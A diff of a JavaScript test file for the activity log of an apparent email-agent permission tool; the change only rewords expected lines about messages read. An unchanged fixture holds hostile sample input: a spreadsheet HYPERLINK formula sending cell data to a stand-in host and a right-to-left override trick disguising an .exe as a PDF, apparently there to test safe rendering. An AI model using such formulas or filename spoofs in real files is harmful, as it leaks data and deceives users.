@@ -102,7 +102,7 @@ describe('the activity', () => {
     const subject = '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1) &lt;b>⟨U+202E⟩fdp.exe';
     const archived = 'Ihr Termin am Donnerstag um 16:20 Uhr (Praxis Dr. Yıldız &lt;termine@praxis.example>)';
     expect(linesOf(page)).toEqual([
-      'Tried to read a message. Refused: the call named a message that Countersign never showed.',
+      'Tried to read messages. Refused: the call named a message that Countersign never showed.',
       `Archived ${archived}, as you approved. Open`,
       `You approved its request to archive ${archived}. Open`,
       `Asked to archive ${archived}: you approved it. Open`,
@@ -144,9 +144,9 @@ describe('the activity', () => {
     clock.shift(25 * 60 * MINUTE_MS);
     sessions.delete(dashboard);
     expect(linesOf(await get(dashboard, '/activity')).filter(filter)).toEqual([
-      'Read a message.',
+      'Read 1 message.',
       'Read 1 message of a conversation.',
-      'Read a message.',
+      'Read 1 message.',
       'Read a tracker.',
     ]);
   });
